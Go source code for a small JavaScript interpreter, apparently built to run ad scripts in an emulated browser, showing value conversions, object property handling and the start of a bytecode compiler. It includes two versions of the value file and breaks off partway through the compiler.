	return &Object{Native: fn, Name: name, frozen: true}
}

// NewSharedNative wraps a Go function as a frozen callable meant to be built
// once (package-level) and installed into many interpreters. The function
// reaches per-interpreter state through in.Host rather than a closure, which
// is what makes the sharing allocation-free and race-free.
func NewSharedNative(name string, fn NativeFunc) *Object {
	return newFrozenNative(name, fn)
}

// Freeze marks the object as shared and immutable: property writes and
// deletes become silent no-ops, which makes the object safe to share across
// concurrent interpreters. Host embedders use it for read-only host objects
// (e.g. the browser's navigator) built once and installed into every
// interpreter. Freezing is irreversible.
func (o *Object) Freeze() { o.frozen = true }

// IsFunction reports whether the object is callable.
func (o *Object) IsFunction() bool { return o.Fn != nil || o.Native != nil }

// Get reads a property, honoring the GetTrap and array length.
func (o *Object) Get(name string) (Value, bool) {
	if o.GetTrap != nil {
		if v, ok := o.GetTrap(name); ok {
			return v, true
		}
	}
	if o.IsArray && name == "length" {
		return Num(float64(len(o.Elems))), true
	}
	if o.Props != nil {
		if v, ok := o.Props[name]; ok {
			return v, true
		}
	}
	return Undefined(), false
}

// Set writes a property, honoring the SetTrap. Writes to frozen objects are
// silently dropped (see frozen).
func (o *Object) Set(name string, v Value) {
	if o.SetTrap != nil && o.SetTrap(name, v) {
		return
	}
	if o.frozen {
		return
	}
	if o.Props == nil {
		o.Props = map[string]Value{}
	}
	o.Props[name] = v
}

// Delete removes a named property (no-op on frozen objects).
func (o *Object) Delete(name string) {
	if o.frozen || o.Props == nil {
		return
	}
	delete(o.Props, name)
}

// Keys returns property names in sorted order (plus array indices in order),
// used by for-in. Sorting keeps iteration deterministic. Array index strings
// come from the shared small-int cache, so dense-array iteration does not
// allocate per key.
func (o *Object) Keys() []string {
	var keys []string
	if o.IsArray {
		keys = make([]string, 0, len(o.Elems)+len(o.Props))
		for i := range o.Elems {
			keys = append(keys, itoaCached(i))
		}
	}
	if len(o.Props) == 0 {
		return keys
	}
	named := make([]string, 0, len(o.Props))
	for k := range o.Props {
		named = append(named, k)
	}
	sort.Strings(named)
	return append(keys, named...)
}

// ---- Small-integer string cache ----

// smallInts caches the decimal strings for 0..smallIntMax. Number→string
// conversion of loop counters and array indices is the dominant ToString
// load in ad scripts; the cache makes those conversions allocation-free.
const smallIntMax = 1023

var smallInts = func() [smallIntMax + 1]string {
	var a [smallIntMax + 1]string
	for i := range a {
		a[i] = strconv.Itoa(i)
	}
	return a
}()

// itoaCached is strconv.Itoa backed by the small-int cache.
func itoaCached(i int) string {
	if i >= 0 && i <= smallIntMax {
		return smallInts[i]
	}
	return strconv.Itoa(i)
}

// ---- Conversions ----

// Truthy implements JavaScript ToBoolean.
func Truthy(v Value) bool {
	switch v.kind {
	case KindEmpty, KindUndefined, KindNull:
		return false
	case KindBool:
		return v.num != 0
	case KindNumber:
		return v.num != 0 && !math.IsNaN(v.num)
	case KindString:
		return v.str != ""
	}
	return true
}

// ToNumber implements JavaScript ToNumber (with NaN for non-numeric input).
func ToNumber(v Value) float64 {
	switch v.kind {
	case KindEmpty, KindUndefined:
		return math.NaN()
	case KindNull:
		return 0
	case KindBool:
		return v.num
	case KindNumber:
		return v.num
	case KindString:
		s := strings.TrimSpace(v.str)
		if s == "" {
			return 0
		}
		if strings.HasPrefix(s, "0x") || strings.HasPrefix(s, "0X") {
			n, err := strconv.ParseInt(s[2:], 16, 64)
			if err != nil {
				return math.NaN()
			}
			return float64(n)
		}
		n, err := strconv.ParseFloat(s, 64)
		if err != nil {
			return math.NaN()
		}
		return n
	case KindObject:
		if v.obj.IsArray {
			// ToPrimitive on an array is its join; converting the joined
			// string keeps [x] ≡ x numerically and stays finite on cyclic
			// arrays (which a direct element recursion would not).
			return ToNumber(Str(ToString(v)))
		}
		return math.NaN()
	}
	return math.NaN()
}

// ToString implements JavaScript ToString. String inputs return their
// payload unchanged (no allocation); small integers hit a shared cache.
func ToString(v Value) string { return toStringVisiting(v, nil) }

// toStringVisiting is ToString with cycle detection: an array reached again
// while it is being stringified yields "" (the same result Array join gives
// for cyclic references in JS engines) instead of recursing forever.
func toStringVisiting(v Value, visiting map[*Object]bool) string {
	switch v.kind {
	case KindEmpty, KindUndefined:
		return "undefined"
	case KindNull:
		return "null"
	case KindBool:
		if v.num != 0 {
			return "true"
		}
		return "false"
	case KindNumber:
		return formatNumber(v.num)
	case KindString:
		return v.str
	case KindObject:
		x := v.obj
		if x.IsFunction() {
			if x.Name != "" {
				return "function " + x.Name + "() { [code] }"
			}
			return "function () { [code] }"
		}
		if x.IsArray {
			if visiting[x] {
				return ""
			}
			if visiting == nil {
				visiting = map[*Object]bool{}
			}
			visiting[x] = true
			var b strings.Builder
			for i, e := range x.Elems {
				if i > 0 {
					b.WriteByte(',')
				}
				// Bound the join: many references to one large string would
				// otherwise multiply into an OOM within a few budget steps.
				// Deterministic truncation keeps conversion total.
				if b.Len() > maxStringLen {
					break
				}
				if e.isNullish() {
					continue
				}
				b.WriteString(toStringVisiting(e, visiting))
			}
			delete(visiting, x)
			return b.String()
		}
		return "[object Object]"
	}
	return "undefined"
}

// formatNumber renders a float64 the way JavaScript does for the common
// cases: integers without a decimal point, NaN/Infinity by name. Small
// non-negative integers return cached strings.
func formatNumber(f float64) string {
	switch {
	case math.IsNaN(f):
		return "NaN"
	case math.IsInf(f, 1):
		return "Infinity"
	case math.IsInf(f, -1):
		return "-Infinity"
	case f == 0:
		// Both zeros print "0": JS ToString(-0) drops the sign.
		return "0"
	case f == math.Trunc(f) && f > 0 && f <= smallIntMax:
		return smallInts[int(f)]
	case f == math.Trunc(f) && math.Abs(f) < 1e21:
		return strconv.FormatFloat(f, 'f', -1, 64)
	default:
		return strconv.FormatFloat(f, 'g', -1, 64)
	}
}

// TypeOf implements the typeof operator.
func TypeOf(v Value) string {
	switch v.kind {
	case KindEmpty, KindUndefined:
		return "undefined"
	case KindNull:
		return "object"
	case KindBool:
		return "boolean"
	case KindNumber:
		return "number"
	case KindString:
		return "string"
	case KindObject:
		if v.obj.IsFunction() {
			return "function"
		}
		return "object"
	}
	return "object"
}

// StrictEquals implements ===.
func StrictEquals(a, b Value) bool {
	ak, bk := a.Kind(), b.Kind()
	if ak != bk {
		return false
	}
	switch ak {
	case KindUndefined, KindNull:
		return true
	case KindBool:
		return (a.num != 0) == (b.num != 0)
	case KindNumber:
		return a.num == b.num
	case KindString:
		return a.str == b.str
	case KindObject:
		return a.obj == b.obj
	}
	return false
}

// LooseEquals implements == with the subset of coercions scripts rely on.
func LooseEquals(a, b Value) bool {
	if StrictEquals(a, b) {
		return true
	}
	aU := a.isNullish()
	bU := b.isNullish()
	if aU || bU {
		return aU && bU
	}
	// number/string/bool cross comparisons go through ToNumber, except
	// object-to-primitive which goes through ToString first for strings.
	switch a.Kind() {
	case KindNumber, KindBool:
		return ToNumber(a) == ToNumber(b)
	case KindString:
		switch b.Kind() {
		case KindNumber, KindBool:
			return ToNumber(a) == ToNumber(b)
		case KindObject:
			return ToString(a) == ToString(b)
		}
	case KindObject:
		switch b.Kind() {
		case KindString:
			return ToString(a) == ToString(b)
		case KindNumber, KindBool:
			return ToNumber(a) == ToNumber(b)
		}
	}
	return false
}
