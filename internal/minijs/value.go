package minijs

import (
	"fmt"
	"math"
	"sort"
	"strconv"
	"strings"
)

// Value is a runtime value of the interpreter. The concrete types are:
//
//	Undefined  — the undefined value
//	Null       — the null value
//	bool       — booleans
//	float64    — numbers
//	string     — strings
//	*Object    — objects, arrays, and functions (native or user-defined)
type Value any

// Undefined is the runtime undefined value.
type Undefined struct{}

// Null is the runtime null value.
type Null struct{}

// NativeFunc is a Go function exposed to scripts. this is the receiver for
// method calls (Undefined{} for plain calls).
type NativeFunc func(interp *Interp, this Value, args []Value) (Value, error)

// Object is the heap object type: plain objects, arrays, and functions.
type Object struct {
	// Props holds named properties.
	Props map[string]Value
	// Elems holds array elements when IsArray is true.
	Elems   []Value
	IsArray bool

	// Fn is set for user-defined functions.
	Fn *FuncLit
	// Env is the closure environment for user-defined functions.
	Env *Env
	// Native is set for Go-implemented functions.
	Native NativeFunc
	// Name is a diagnostic name for functions and host objects.
	Name string

	// GetTrap, if non-nil, intercepts property reads before Props is
	// consulted. Host objects use it (e.g. location.href reflecting
	// navigation state).
	GetTrap func(name string) (Value, bool)
	// SetTrap, if non-nil, intercepts property writes. Returning true means
	// the write was handled; false stores into Props normally. This is how
	// the browser observes `top.location = url` — the link-hijacking channel
	// from the paper's §2.3.
	SetTrap func(name string, v Value) bool

	// rx is set on regex objects (see regex.go); string methods use it to
	// recognize a regex argument.
	rx *regexRuntime
}

// NewObject returns an empty plain object.
func NewObject() *Object {
	return &Object{Props: map[string]Value{}}
}

// NewArray returns an array object with the given elements.
func NewArray(elems ...Value) *Object {
	return &Object{Props: map[string]Value{}, Elems: elems, IsArray: true}
}

// NewNative wraps a Go function as a callable object.
func NewNative(name string, fn NativeFunc) *Object {
	return &Object{Props: map[string]Value{}, Native: fn, Name: name}
}

// IsFunction reports whether the object is callable.
func (o *Object) IsFunction() bool { return o.Fn != nil || o.Native != nil }

// Get reads a property, honoring the GetTrap and array length.
func (o *Object) Get(name string) (Value, bool) {
	if o.GetTrap != nil {
		if v, ok := o.GetTrap(name); ok {
			return v, true
		}
	}
	if o.IsArray && name == "length" {
		return float64(len(o.Elems)), true
	}
	if o.Props != nil {
		if v, ok := o.Props[name]; ok {
			return v, true
		}
	}
	return Undefined{}, false
}

// Set writes a property, honoring the SetTrap.
func (o *Object) Set(name string, v Value) {
	if o.SetTrap != nil && o.SetTrap(name, v) {
		return
	}
	if o.Props == nil {
		o.Props = map[string]Value{}
	}
	o.Props[name] = v
}

// Keys returns property names in sorted order (plus array indices in order),
// used by for-in. Sorting keeps iteration deterministic.
func (o *Object) Keys() []string {
	var keys []string
	if o.IsArray {
		for i := range o.Elems {
			keys = append(keys, strconv.Itoa(i))
		}
	}
	named := make([]string, 0, len(o.Props))
	for k := range o.Props {
		named = append(named, k)
	}
	sort.Strings(named)
	return append(keys, named...)
}

// ---- Conversions ----

// Truthy implements JavaScript ToBoolean.
func Truthy(v Value) bool {
	switch x := v.(type) {
	case nil, Undefined, Null:
		return false
	case bool:
		return x
	case float64:
		return x != 0 && !math.IsNaN(x)
	case string:
		return x != ""
	case *Object:
		return true
	}
	return true
}

// ToNumber implements JavaScript ToNumber (with NaN for non-numeric input).
func ToNumber(v Value) float64 {
	switch x := v.(type) {
	case nil, Undefined:
		return math.NaN()
	case Null:
		return 0
	case bool:
		if x {
			return 1
		}
		return 0
	case float64:
		return x
	case string:
		s := strings.TrimSpace(x)
		if s == "" {
			return 0
		}
		if strings.HasPrefix(s, "0x") || strings.HasPrefix(s, "0X") {
			n, err := strconv.ParseInt(s[2:], 16, 64)
			if err != nil {
				return math.NaN()
			}
			return float64(n)
		}
		n, err := strconv.ParseFloat(s, 64)
		if err != nil {
			return math.NaN()
		}
		return n
	case *Object:
		if x.IsArray {
			// ToPrimitive on an array is its join; converting the joined
			// string keeps [x] ≡ x numerically and stays finite on cyclic
			// arrays (which a direct element recursion would not).
			return ToNumber(ToString(x))
		}
		return math.NaN()
	}
	return math.NaN()
}

// ToString implements JavaScript ToString.
func ToString(v Value) string { return toStringVisiting(v, nil) }

// toStringVisiting is ToString with cycle detection: an array reached again
// while it is being stringified yields "" (the same result Array join gives
// for cyclic references in JS engines) instead of recursing forever.
func toStringVisiting(v Value, visiting map[*Object]bool) string {
	switch x := v.(type) {
	case nil, Undefined:
		return "undefined"
	case Null:
		return "null"
	case bool:
		if x {
			return "true"
		}
		return "false"
	case float64:
		return formatNumber(x)
	case string:
		return x
	case *Object:
		if x.IsFunction() {
			if x.Name != "" {
				return "function " + x.Name + "() { [code] }"
			}
			return "function () { [code] }"
		}
		if x.IsArray {
			if visiting[x] {
				return ""
			}
			if visiting == nil {
				visiting = map[*Object]bool{}
			}
			visiting[x] = true
			var b strings.Builder
			for i, e := range x.Elems {
				if i > 0 {
					b.WriteByte(',')
				}
				// Bound the join: many references to one large string would
				// otherwise multiply into an OOM within a few budget steps.
				// Deterministic truncation keeps conversion total.
				if b.Len() > maxStringLen {
					break
				}
				if isNullish(e) {
					continue
				}
				b.WriteString(toStringVisiting(e, visiting))
			}
			delete(visiting, x)
			return b.String()
		}
		return "[object Object]"
	}
	return fmt.Sprintf("%v", v)
}

// formatNumber renders a float64 the way JavaScript does for the common
// cases: integers without a decimal point, NaN/Infinity by name.
func formatNumber(f float64) string {
	switch {
	case math.IsNaN(f):
		return "NaN"
	case math.IsInf(f, 1):
		return "Infinity"
	case math.IsInf(f, -1):
		return "-Infinity"
	case f == 0:
		// Both zeros print "0": JS ToString(-0) drops the sign.
		return "0"
	case f == math.Trunc(f) && math.Abs(f) < 1e21:
		return strconv.FormatFloat(f, 'f', -1, 64)
	default:
		return strconv.FormatFloat(f, 'g', -1, 64)
	}
}

// TypeOf implements the typeof operator.
func TypeOf(v Value) string {
	switch x := v.(type) {
	case nil, Undefined:
		return "undefined"
	case Null:
		return "object"
	case bool:
		return "boolean"
	case float64:
		return "number"
	case string:
		return "string"
	case *Object:
		if x.IsFunction() {
			return "function"
		}
		return "object"
	}
	return "object"
}

// StrictEquals implements ===.
func StrictEquals(a, b Value) bool {
	switch x := a.(type) {
	case nil, Undefined:
		_, u1 := b.(Undefined)
		return u1 || b == nil
	case Null:
		_, n1 := b.(Null)
		return n1
	case bool:
		y, ok := b.(bool)
		return ok && x == y
	case float64:
		y, ok := b.(float64)
		return ok && x == y
	case string:
		y, ok := b.(string)
		return ok && x == y
	case *Object:
		y, ok := b.(*Object)
		return ok && x == y
	}
	return false
}

// LooseEquals implements == with the subset of coercions scripts rely on.
func LooseEquals(a, b Value) bool {
	if StrictEquals(a, b) {
		return true
	}
	aU := isNullish(a)
	bU := isNullish(b)
	if aU || bU {
		return aU && bU
	}
	// number/string/bool cross comparisons go through ToNumber, except
	// object-to-primitive which goes through ToString first for strings.
	switch a.(type) {
	case float64, bool:
		return ToNumber(a) == ToNumber(b)
	case string:
		switch b.(type) {
		case float64, bool:
			return ToNumber(a) == ToNumber(b)
		case *Object:
			return ToString(a) == ToString(b)
		}
	case *Object:
		switch b.(type) {
		case string:
			return ToString(a) == ToString(b)
		case float64, bool:
			return ToNumber(a) == ToNumber(b)
		}
	}
	return false
}

func isNullish(v Value) bool {
	switch v.(type) {
	case nil, Undefined, Null:
		return true
	}
	return false
}
