package minijs

// compile.go lowers the AST to a compact stack bytecode: interned atoms and
// constants, constant folding, and jump-patched control flow. The compiled
// form preserves the tree-walker's semantics exactly — including its step
// accounting: every in.step() call the tree-walker would make is attached as
// a cost to the first instruction executed at or after that point, so a
// script that exhausts its budget fails at the same observable point under
// both engines (see vm.go for the execution side).

import (
	"context"
	"fmt"
	"math"
)

type opcode uint8

const (
	opCost          opcode = iota // no-op carrying accumulated step cost
	opConst                       // push consts[a]
	opPop                         // pop
	opDup                         // duplicate top
	opSwap                        // swap top two
	opGetVar                      // push env lookup of atoms[a]; ReferenceError when unbound
	opAssignVar                   // pop v; env.Assign(atoms[a], v)
	opDefine                      // pop v; env.Define(atoms[a], v)
	opThis                        // push `this` (Undefined when unbound)
	opTypeofVar                   // push typeof of atoms[a] ("undefined" when unbound)
	opMakeFunc                    // push closure over funcs[a]
	opHoistFunc                   // define atoms[b] = closure over funcs[a]
	opMakeArray                   // pop a elements; push array
	opMakeObject                  // pop len(keys[a]) values; push object
	opMakeRegex                   // push fresh regex object for regexes[a]
	opGetMember                   // pop obj; push obj.atoms[a]
	opSetMember                   // pop obj, then v; set obj.atoms[a] = v
	opDelMember                   // pop obj; delete atoms[a]; push true
	opGetIndex                    // pop idx, obj; push obj[idx]
	opSetIndex                    // pop idx, obj, then v; set obj[idx] = v
	opUnary                       // pop x; push unaryOps[a] applied to x
	opBinary                      // pop y, x; push x binaryOps[a] y
	opUpdateNum                   // pop old; next=ToNumber(old)+a; push result, next
	opJump                        // pc = a
	opJumpFalse                   // pop v; if !Truthy(v) pc = a
	opJumpTrue                    // pop v; if Truthy(v) pc = a
	opCaseJump                    // pop t; if StrictEquals(peek, t) pc = a
	opCall                        // pop a args, fn, this; push result (atoms[b] = callee name)
	opNew                         // pop a args, ctor; push constructed object
	opReturn                      // pop v; finish chunk with ctlReturn
	opThrow                       // pop v; throw it
	opTry                         // execute trys[a] (sub-chunks for body/catch/finally)
	opBreak                       // finish chunk with ctlBreak
	opContinue                    // finish chunk with ctlContinue
	opPushScope                   // env = new child scope
	opPopScope                    // env = parent scope
	opForInInit                   // pop obj; push key iterator
	opForInNext                   // push next key from iterator at top, or jump a
	opSetCompletion               // pop v; completion register = v
)

// instr is one bytecode instruction. cost is the number of interpreter steps
// charged before the instruction executes; a and b are operands (constant,
// atom, function, or patched jump target indices); line is the source line
// for runtime errors.
type instr struct {
	op   opcode
	cost uint16
	a, b int32
	line int32
}

// tryDesc describes one try/catch/finally site. Body, catch and finally are
// compiled as sub-chunks because their non-local exits (throw crossing
// finally, break/continue escaping the statement) mirror the tree-walker's
// recursive execution. breakPC/contPC point at stub code in the enclosing
// chunk that unwinds to the nearest loop, or -1 to propagate the control
// signal out of the chunk.
type tryDesc struct {
	body, catch, finally *chunk
	catchAtom            int32
	breakPC, contPC      int32
}

// chunk is one compiled code unit: the program, a function body, or a
// try-statement sub-block. Atoms, constants and nested literals are interned
// per chunk; indices are assigned in first-encounter order so compilation is
// deterministic and disassembly is stable across runs.
type chunk struct {
	name    string
	code    []instr
	consts  []Value
	atoms   []string
	funcs   []*FuncLit
	keys    [][]string
	regexes []*RegexLit
	trys    []tryDesc
}

// binaryOps and unaryOps give operators stable indices shared by the
// compiler, the VM, and the disassembler.
var binaryOps = []string{
	"+", "-", "*", "/", "%", "==", "!=", "===", "!==",
	"<", ">", "<=", ">=", "&", "|", "^", "<<", ">>", ">>>",
	"in", "instanceof",
}

var unaryOps = []string{"-", "+", "!", "~", "typeof"}

var binaryOpIdx = func() map[string]int32 {
	m := make(map[string]int32, len(binaryOps))
	for i, op := range binaryOps {
		m[op] = int32(i)
	}
	return m
}()

var unaryOpIdx = func() map[string]int32 {
	m := make(map[string]int32, len(unaryOps))
	for i, op := range unaryOps {
		m[op] = int32(i)
	}
	return m
}()

// compileAbort carries an error out of the recursive compiler via panic;
// CompileProgram recovers it. Used for context cancellation and for AST
// shapes the compiler does not handle (the caller falls back to the
// tree-walker).
type compileAbort struct{ err error }

// compileState is shared across the chunks of one CompileProgram call.
type compileState struct {
	ctx      context.Context
	emits    int
	fnChunks []fnChunk
}

type fnChunk struct {
	fn *FuncLit
	ch *chunk
}

func (st *compileState) tick() {
	st.emits++
	if st.emits&255 == 0 && st.ctx != nil {
		if err := st.ctx.Err(); err != nil {
			panic(compileAbort{err})
		}
	}
}

// CompileProgram lowers prog (and every function literal it contains) to
// bytecode. On success it publishes the chunks into prog.code and each
// FuncLit.code; on error (context cancellation) nothing is published, so a
// deadline-truncated compile can never leak a partial program into a cache.
// Not safe for concurrent calls on the same Program; callers serialize
// (the code cache singleflights, and per-run programs have one owner).
func CompileProgram(ctx context.Context, prog *Program) (err error) {
	if prog.code != nil {
		return nil
	}
	defer func() {
		if r := recover(); r != nil {
			ab, ok := r.(compileAbort)
			if !ok {
				panic(r)
			}
			err = ab.err
		}
	}()
	st := &compileState{ctx: ctx}
	c := newComp(st, "program")
	c.hoist(prog.Body)
	for _, s := range prog.Body {
		c.stmt(s, true)
	}
	ch := c.finish()
	for _, fc := range st.fnChunks {
		fc.fn.code = fc.ch
	}
	prog.code = ch
	return nil
}

// loopEntry is a compile-time record of an enclosing breakable construct.
// The depth/holds fields are the scope depth and value-stack holds (for-in
// iterators) to unwind to when jumping to the respective label.
type loopEntry struct {
	isLoop                bool // continue targets only loops, never switch
	breakLabel, contLabel int
	breakDepth, contDepth int
	breakHolds, contHolds int
}

type comp struct {
	st       *compileState
	ch       *chunk
	pending  int   // steps charged but not yet attached to an instruction
	labels   []int // label id -> pc, -1 while unbound
	atomIdx  map[string]int32
	constIdx map[constKey]int32
	depth    int // current lexical scope depth
	holds    int // value-stack slots held across statements (for-in iterators)
	loops    []loopEntry
}

func newComp(st *compileState, name string) *comp {
	return &comp{
		st:       st,
		ch:       &chunk{name: name},
		atomIdx:  map[string]int32{},
		constIdx: map[constKey]int32{},
	}
}

// charge records n interpreter steps to be paid by the next instruction.
func (c *comp) charge(n int) { c.pending += n }

// emit appends an instruction, attaching any pending step charge. Charges
// larger than the cost field are drained through explicit opCost chunks.
func (c *comp) emit(op opcode, a, b int32, line int) int {
	c.st.tick()
	for c.pending > 0xffff {
		c.ch.code = append(c.ch.code, instr{op: opCost, cost: 0xffff})
		c.pending -= 0xffff
	}
	pc := len(c.ch.code)
	c.ch.code = append(c.ch.code, instr{op: op, cost: uint16(c.pending), a: a, b: b, line: int32(line)})
	c.pending = 0
	return pc
}

// flush materializes a pending charge as a no-op. Called before binding a
// label so that back-edges do not re-pay a charge that belongs to code
// executed once (e.g. a while statement's own entry step).
func (c *comp) flush() {
	if c.pending > 0 {
		c.emit(opCost, 0, 0, 0)
	}
}

func (c *comp) newLabel() int {
	c.labels = append(c.labels, -1)
	return len(c.labels) - 1
}

func (c *comp) bind(l int) {
	c.flush()
	c.labels[l] = len(c.ch.code)
}

func (c *comp) atom(s string) int32 {
	if i, ok := c.atomIdx[s]; ok {
		return i
	}
	i := int32(len(c.ch.atoms))
	c.ch.atoms = append(c.ch.atoms, s)
	c.atomIdx[s] = i
	return i
}

// constKey is the interning key for the constant pool. negZero interns
// float64 -0 separately: -0 == +0 under Go's == (so the struct fields alone
// would collide), but the two are distinct JS values (1/-0 is -Infinity), so
// sharing a pool slot would silently rewrite one into the other (found by
// FuzzCompileEval).
type constKey struct {
	kind    Kind
	num     float64
	str     string
	negZero bool
}

func (c *comp) constant(v Value) int32 {
	key := constKey{kind: v.Kind(), num: v.num, str: v.str}
	if v.kind == KindNumber && v.num == 0 && math.Signbit(v.num) {
		key.negZero = true
	}
	// NaN never equals itself as a map key; it just interns once per use
	// (and is never inserted, so the map cannot grow unboundedly).
	if i, ok := c.constIdx[key]; ok {
		return i
	}
	i := int32(len(c.ch.consts))
	c.ch.consts = append(c.ch.consts, v)
	if !(v.kind == KindNumber && v.num != v.num) {
		c.constIdx[key] = i
	}
	return i
}

func (c *comp) abort(format string, args ...any) {
	panic(compileAbort{fmt.Errorf(format, args...)})
}

// finish flushes trailing charges, patches label operands to PCs, and
// returns the chunk.
func (c *comp) finish() *chunk {
	c.flush()
	for i := range c.ch.code {
		ins := &c.ch.code[i]
		switch ins.op {
		case opJump, opJumpFalse, opJumpTrue, opCaseJump, opForInNext:
			ins.a = int32(c.labels[ins.a])
		}
	}
	for i := range c.ch.trys {
		td := &c.ch.trys[i]
		if td.breakPC >= 0 {
			td.breakPC = int32(c.labels[td.breakPC])
		}
		if td.contPC >= 0 {
			td.contPC = int32(c.labels[td.contPC])
		}
	}
	return c.ch
}

// hoist emits the function-declaration hoisting the tree-walker performs on
// entry to a program or block. Hoisting charges no steps.
func (c *comp) hoist(body []Stmt) {
	for _, s := range body {
		if fd, ok := s.(*FuncDecl); ok {
			c.emit(opHoistFunc, c.funcIdx(fd.Fn), c.atom(fd.Name), fd.nodeLine())
		}
	}
}

// funcIdx interns fn in this chunk and compiles its body to a chunk of its
// own (recorded on the shared state; published by CompileProgram on success).
func (c *comp) funcIdx(fn *FuncLit) int32 {
	name := fn.Name
	if name == "" {
		name = "function"
	}
	sub := newComp(c.st, name)
	// callObject builds the call env (this/arguments/params) in Go; the
	// chunk starts at execBlock's block scope — which execBlock elides when
	// the body declares nothing, so the compiler elides it identically.
	if blockNeedsScope(fn.Body.Body) {
		sub.emit(opPushScope, 0, 0, fn.nodeLine())
		sub.depth++
		sub.hoist(fn.Body.Body)
	}
	for _, s := range fn.Body.Body {
		sub.stmt(s, false)
	}
	ch := sub.finish()
	c.st.fnChunks = append(c.st.fnChunks, fnChunk{fn: fn, ch: ch})
	i := int32(len(c.ch.funcs))
	c.ch.funcs = append(c.ch.funcs, fn)
	return i
}

// subChunk compiles a block statement as a standalone chunk (try bodies,
// catch and finally blocks), opening the block scope the tree-walker's
// execBlock would.
func (c *comp) subChunk(name string, b *BlockStmt) *chunk {
	sub := newComp(c.st, name)
	if blockNeedsScope(b.Body) {
		sub.emit(opPushScope, 0, 0, b.nodeLine())
		sub.depth++
		sub.hoist(b.Body)
	}
	for _, s := range b.Body {
		sub.stmt(s, false)
	}
	return sub.finish()
}

// emitBreak compiles a break statement at the current position: unwind
// scopes and held stack slots to the innermost breakable construct and jump,
// or signal ctlBreak out of the chunk when nothing encloses us here.
func (c *comp) emitBreak(line int) {
	if len(c.loops) == 0 {
		c.emit(opBreak, 0, 0, line)
		return
	}
	e := c.loops[len(c.loops)-1]
	for i := c.depth; i > e.breakDepth; i-- {
		c.emit(opPopScope, 0, 0, line)
	}
	for i := c.holds; i > e.breakHolds; i-- {
		c.emit(opPop, 0, 0, line)
	}
	c.emit(opJump, int32(e.breakLabel), 0, line)
}

func (c *comp) emitContinue(line int) {
	for i := len(c.loops) - 1; i >= 0; i-- {
		e := c.loops[i]
		if !e.isLoop {
			continue
		}
		for d := c.depth; d > e.contDepth; d-- {
			c.emit(opPopScope, 0, 0, line)
		}
		for h := c.holds; h > e.contHolds; h-- {
			c.emit(opPop, 0, 0, line)
		}
		c.emit(opJump, int32(e.contLabel), 0, line)
		return
	}
	c.emit(opContinue, 0, 0, line)
}

// stmt compiles one statement. visible marks statements whose completion
// value the tree-walker records as the program result: top-level statements
// and, transitively, the branches of top-level if statements (execStmt
// returns a value only for ExprStmt and IfStmt).
func (c *comp) stmt(s Stmt, visible bool) {
	c.charge(1) // execStmt entry step
	switch st := s.(type) {
	case *EmptyStmt:
		// charge carries to the next instruction (or a trailing opCost).

	case *VarDecl:
		for i, name := range st.Names {
			if st.Inits[i] != nil {
				c.expr(st.Inits[i])
			} else {
				c.emit(opConst, c.constant(Undefined()), 0, st.nodeLine())
			}
			c.emit(opDefine, c.atom(name), 0, st.nodeLine())
		}

	case *FuncDecl:
		c.emit(opHoistFunc, c.funcIdx(st.Fn), c.atom(st.Name), st.nodeLine())

	case *ExprStmt:
		c.expr(st.X)
		if visible {
			c.emit(opSetCompletion, 0, 0, st.nodeLine())
		} else {
			c.emit(opPop, 0, 0, st.nodeLine())
		}

	case *BlockStmt:
		// Blocks that declare nothing run in the enclosing scope, exactly as
		// execBlock elides its Env (same blockNeedsScope predicate).
		scoped := blockNeedsScope(st.Body)
		if scoped {
			c.emit(opPushScope, 0, 0, st.nodeLine())
			c.depth++
			c.hoist(st.Body)
		}
		for _, s2 := range st.Body {
			c.stmt(s2, false)
		}
		if scoped {
			c.depth--
			c.emit(opPopScope, 0, 0, st.nodeLine())
		}

	case *IfStmt:
		c.expr(st.Cond)
		elseL := c.newLabel()
		endL := c.newLabel()
		c.emit(opJumpFalse, int32(elseL), 0, st.nodeLine())
		c.stmt(st.Then, visible)
		if st.Else != nil {
			c.emit(opJump, int32(endL), 0, st.nodeLine())
			c.bind(elseL)
			c.stmt(st.Else, visible)
			c.bind(endL)
		} else {
			c.bind(elseL)
			c.bind(endL)
		}

	case *WhileStmt:
		condL := c.newLabel()
		endL := c.newLabel()
		c.bind(condL) // flushes the while statement's own entry step
		c.expr(st.Cond)
		c.emit(opJumpFalse, int32(endL), 0, st.nodeLine())
		c.pushLoop(loopEntry{
			isLoop: true, breakLabel: endL, contLabel: condL,
			breakDepth: c.depth, contDepth: c.depth,
			breakHolds: c.holds, contHolds: c.holds,
		})
		c.stmt(st.Body, false)
		c.popLoop()
		c.emit(opJump, int32(condL), 0, st.nodeLine())
		c.bind(endL)

	case *DoWhileStmt:
		bodyL := c.newLabel()
		condL := c.newLabel()
		endL := c.newLabel()
		c.bind(bodyL)
		c.pushLoop(loopEntry{
			isLoop: true, breakLabel: endL, contLabel: condL,
			breakDepth: c.depth, contDepth: c.depth,
			breakHolds: c.holds, contHolds: c.holds,
		})
		c.stmt(st.Body, false)
		c.popLoop()
		c.bind(condL)
		c.expr(st.Cond)
		c.emit(opJumpTrue, int32(bodyL), 0, st.nodeLine())
		c.bind(endL)

	case *ForStmt:
		outerDepth := c.depth
		scoped := forNeedsScope(st)
		if scoped {
			c.emit(opPushScope, 0, 0, st.nodeLine()) // loopEnv, created before init
			c.depth++
		}
		if st.Init != nil {
			c.stmt(st.Init, false)
		}
		condL := c.newLabel()
		contL := c.newLabel()
		endPopL := c.newLabel()
		afterL := c.newLabel()
		c.bind(condL)
		if st.Cond != nil {
			c.expr(st.Cond)
			c.emit(opJumpFalse, int32(endPopL), 0, st.nodeLine())
		}
		c.pushLoop(loopEntry{
			isLoop: true, breakLabel: afterL, contLabel: contL,
			breakDepth: outerDepth, contDepth: c.depth,
			breakHolds: c.holds, contHolds: c.holds,
		})
		c.stmt(st.Body, false)
		c.popLoop()
		c.bind(contL)
		if st.Post != nil {
			c.expr(st.Post)
			c.emit(opPop, 0, 0, st.nodeLine())
		}
		c.emit(opJump, int32(condL), 0, st.nodeLine())
		c.bind(endPopL)
		if scoped {
			c.emit(opPopScope, 0, 0, st.nodeLine())
			c.depth--
		}
		c.bind(afterL)

	case *ForInStmt:
		c.expr(st.Obj)
		outerDepth, outerHolds := c.depth, c.holds
		c.emit(opForInInit, 0, 0, st.nodeLine())
		c.holds++
		scoped := forInNeedsScope(st)
		if scoped {
			c.emit(opPushScope, 0, 0, st.nodeLine())
			c.depth++
		}
		if st.Decl {
			c.emit(opConst, c.constant(Undefined()), 0, st.nodeLine())
			c.emit(opDefine, c.atom(st.VarName), 0, st.nodeLine())
		}
		nextL := c.newLabel()
		endL := c.newLabel()
		afterL := c.newLabel()
		c.bind(nextL)
